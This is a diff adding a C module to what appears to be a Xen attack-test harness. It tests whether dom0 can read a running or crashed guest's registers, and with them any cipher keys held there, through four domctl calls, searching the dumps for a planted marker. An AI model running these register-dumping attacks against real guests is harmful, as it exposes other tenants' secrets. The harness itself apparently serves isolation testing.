@@ -1,0 +1,124 @@
+/* SPDX-License-Identifier: BSD-2-Clause */
+/*
+ * Advisory: a guest's registers by the toolstack's calls
+ *
+ * Claim:  dom0 reads general and vector registers of a running guest; ciphers
+ *         keep their keys in the latter.
+ * Method: XEN_DOMCTL_getvcpucontext, _getvcpuextstate, _gethvmcontext and
+ *         _gethvmcontext_partial of the running guest, which has the marker in
+ *         them most of the time.
+ * Stock:  all of them, for PVH guests, too.
+ */
+#include <string.h>
+
+#include "../attack.h"
+
+#include <xen/hvm/save.h>
+
+#define TRIES 40
+#define SIZE (64u << 10)
+
+static bool words_in(const void *memory, size_t size)
+{
+    uint32_t word[VICTIM_WORDS];
+    uint64_t wide;
+
+    marker_words(word);
+    wide = word[1];
+    return memmem(memory, size, &wide, sizeof(wide));
+}
+
+static enum verdict getvcpucontext(struct victim *v)
+{
+    vcpu_guest_context_any_t c;
+    unsigned int i;
+
+    for ( i = 0; i < TRIES; i++, msleep(7) )
+    {
+        if ( xc_vcpu_getcontext(xch, v->id, 0, &c) )
+            return verdict(FAILURE, "refused");
+        if ( secret_registers(c.x64.user_regs.rsi, c.x64.user_regs.rdi,
+                              c.x64.user_regs.rbp) )
+            return verdict(SUCCESS, "marker in RSI, RDI, RBP");
+    }
+    return verdict(FAILURE, "no marker");
+}
+ATTACK(getvcpucontext, .needs = SHARED);
+
+static enum verdict getvcpuextstate(struct victim *v)
+{
+    struct xen_domctl op = {0};
+    void *state = xen_buffer(SIZE);
+    unsigned int i;
+
+    for ( i = 0; i < TRIES; i++, msleep(7) )
+    {
+        op.u.vcpuextstate.size = 0;
+        set_xen_guest_handle_raw(op.u.vcpuextstate.buffer, NULL);
+        if ( domctl(v->id, XEN_DOMCTL_getvcpuextstate, &op) ||
+             op.u.vcpuextstate.size > SIZE )
+            return verdict(FAILURE, "refused");
+        set_xen_guest_handle_raw(op.u.vcpuextstate.buffer, state);
+        if ( domctl(v->id, XEN_DOMCTL_getvcpuextstate, &op) )
+            return verdict(FAILURE, "refused");
+        if ( markers_in(state, SIZE) )
+            return verdict(SUCCESS, "marker in XMM registers");
+    }
+    return verdict(FAILURE, "no marker");
+}
+ATTACK(getvcpuextstate, .needs = SHARED);
+
+static enum verdict gethvmcontext(struct victim *v)
+{
+    static uint8_t state[SIZE];
+    unsigned int i;
+    int size;
+
+    for ( i = 0; i < TRIES; i++, msleep(7) )
+    {
+        size = xc_domain_hvm_getcontext(xch, v->id, state, SIZE);
+        if ( size <= 0 )
+            return verdict(FAILURE, "refused");
+        if ( words_in(state, size) && markers_in(state, size) )
+            return verdict(SUCCESS, "marker in RDI and XMM registers");
+    }
+    return verdict(FAILURE, "no marker in %d bytes", size);
+}
+ATTACK(gethvmcontext, .needs = SHARED);
+
+static enum verdict gethvmcontext_partial(struct victim *v)
+{
+    struct hvm_hw_cpu *cpu = xen_buffer(sizeof(*cpu));
+    unsigned int i;
+
+    for ( i = 0; i < TRIES; i++, msleep(7) )
+    {
+        if ( xc_domain_hvm_getcontext_partial(xch, v->id, HVM_SAVE_CODE(CPU),
+                                              0, cpu, sizeof(*cpu)) )
+            return verdict(FAILURE, "refused");
+        if ( secret_registers(cpu->rsi, cpu->rdi, cpu->rbp) )
+            return verdict(SUCCESS, "marker in RSI, RDI, RBP");
+    }
+    return verdict(FAILURE, "no marker");
+}
+ATTACK(gethvmcontext_partial, .needs = SHARED);
+
+/* Claim: ... of a guest that has crashed. */
+static enum verdict registers_crashed(struct victim *v)
+{
+    vcpu_guest_context_any_t c;
+    uint32_t word[VICTIM_WORDS];
+
+    if ( !victim_suspended(v, 30) )
+        return verdict(ERROR, "the guest goes on");
+    if ( xc_vcpu_getcontext(xch, v->id, 0, &c) )
+        return verdict(FAILURE, "refused");
+    marker_words(word);
+    return verdict(c.x64.user_regs.rsi == word[0] &&
+                           c.x64.user_regs.rdi == word[1]
+                       ? SUCCESS
+                       : FAILURE,
+                   "RSI %#lx, RDI %#lx", (unsigned long)c.x64.user_regs.rsi,
+                   (unsigned long)c.x64.user_regs.rdi);
+}
+ATTACK(registers_crashed, .needs = FRESH, .extra = "triple");
